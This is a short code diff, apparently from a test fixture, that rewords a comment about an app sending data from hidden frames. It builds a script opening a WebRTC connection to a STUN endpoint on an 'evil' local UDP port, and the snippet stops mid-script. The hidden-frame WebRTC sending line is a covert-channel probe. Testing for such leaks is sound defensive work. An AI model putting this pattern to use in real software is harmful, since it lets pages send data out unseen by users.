@@ -1,4 +1,4 @@
-/** An app that makes frames where nobody sees them, and sends something from there. */
+/** An app that makes frames out of sight, and sends something from there. */
 declare const evil: { readonly udp: number }
 const sending = `<script>
   const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${evil.udp}' }] })
